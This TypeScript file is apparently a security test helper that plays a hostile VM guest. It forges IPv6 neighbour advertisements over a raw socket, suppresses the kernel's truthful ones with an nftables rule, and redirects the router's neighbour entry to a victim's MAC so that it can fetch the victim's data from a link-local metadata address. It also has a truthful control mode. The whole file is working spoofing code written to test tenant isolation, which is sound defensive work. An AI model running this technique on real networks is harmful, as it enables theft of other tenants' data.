/**
 * A hostile guest's program (run inside its namespace: `node dist/test/helpers/ll-steal.js <ownMac> <victimMac>
 * <path> <lie 0|1>`): asks [fe80::a9fe:a9fe] for `path` from its own link-local address after making the router's
 * neighbour entry for that address point to the victim's MAC — an unsolicited advertisement, and answers to the
 * router's solicitations, whose target link-layer address is the victim's while the frames come from its own MAC —
 * then points the entry back to itself so that the answer reaches it. With `lie` 0 it answers truthfully (the
 * control: the same exchange, its own data). Prints what the server answered.
 */
import net from 'node:net';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import * as libc from '../../lib/sys/libc.js';
import { ipToBytes } from '../../lib/util/ip.js';
import { ND_TLLA, icmp6Frame, ndOption } from './frames.js';

const [ownMac, victimMac, path, lieArg] = process.argv.slice(2);
const lie = lieArg === '1';
const own = /inet6 (fe80::[0-9a-f:]+)\/64 scope link\s*\n/.exec(execFileSync('ip', ['-6', 'addr', 'show', 'dev', 'eth0'], { encoding: 'utf8' }))![1];
const ownBytes = ipToBytes(own);

// the kernel's own advertisements would tell the truth (AF_PACKET frames bypass this)
execFileSync('nft', ['-f', '-'], { input: 'table ip6 steal {\n chain o {\n  type filter hook output priority 0; policy accept;\n  icmpv6 type nd-neighbor-advert drop\n }\n}\n' });

const proto = 0x0300; // htons(ETH_P_ALL)
const fd = libc.socket(17, libc.SOCK_RAW | libc.SOCK_NONBLOCK, proto);
const sll = Buffer.alloc(20);
sll.writeUInt16LE(17, 0);
sll.writeUInt16LE(proto, 2);
sll.writeInt32LE(Number(readFileSync('/sys/class/net/eth0/ifindex', 'utf8').trim()), 4);
libc.bind(fd, sll);

let tell = ownMac;
const na = (dst: string, daddr: string, tlla: string, solicited: boolean) => {
  const body = Buffer.alloc(20);
  body[0] = 0x20 | (solicited ? 0x40 : 0); // override (+ solicited)
  ownBytes.copy(body, 4);
  return icmp6Frame({ src: ownMac, dst, saddr: own, daddr, type: 136, body: Buffer.concat([body, ndOption(ND_TLLA, tlla)]) });
};
const mac = (b: Buffer) => Array.from(b, (x) => x.toString(16).padStart(2, '0')).join(':');
const buf = Buffer.alloc(4096);
const answer = setInterval(() => {
  for (;;) {
    const n = libc.recvRaw(fd, buf);
    if (n < 0) return;
    // a neighbour solicitation for our address from someone else: answer it ourselves
    if (n < 14 + 40 + 24 || buf.readUInt16BE(12) !== 0x86dd || buf[20] !== 58 || buf[54] !== 135) continue;
    if (!buf.subarray(62, 78).equals(ownBytes) || mac(buf.subarray(6, 12)) === ownMac) continue;
    const from = buf.subarray(22, 38);
    const saddr = Array.from({ length: 8 }, (_, i) => from.readUInt16BE(i * 2).toString(16)).join(':');
    libc.send(fd, na(mac(buf.subarray(6, 12)), saddr, tell, true));
  }
}, 1);

const chunks: Buffer[] = [];
const done = () => {
  clearInterval(answer);
  libc.close(fd);
  try { execFileSync('nft', ['delete', 'table', 'ip6', 'steal']); } catch { /* gone */ }
  process.stdout.write(Buffer.concat(chunks).toString('utf8'));
  process.exit(0);
};
const c = net.connect({ host: 'fe80::a9fe:a9fe%eth0', port: 80 }, () => {
  setTimeout(() => {
    if (lie) {
      tell = victimMac;
      libc.send(fd, na('33:33:00:00:00:01', 'ff02::1', victimMac, false));
    }
    setTimeout(() => {
      c.write(`GET ${path} HTTP/1.1\r\nHost: [fe80::a9fe:a9fe]\r\nConnection: close\r\n\r\n`);
      // once the server has looked (its re-resolution takes a round trip), the entry back to us: TCP's
      // retransmission of the answer then reaches us
      setTimeout(() => {
        tell = ownMac;
        libc.send(fd, na('33:33:00:00:00:01', 'ff02::1', ownMac, false));
      }, 400);
    }, 50);
  }, 200);
});
c.on('data', (d: Buffer) => chunks.push(d));
c.on('close', done);
c.on('error', done);
setTimeout(() => { c.destroy(); done(); }, 8000);
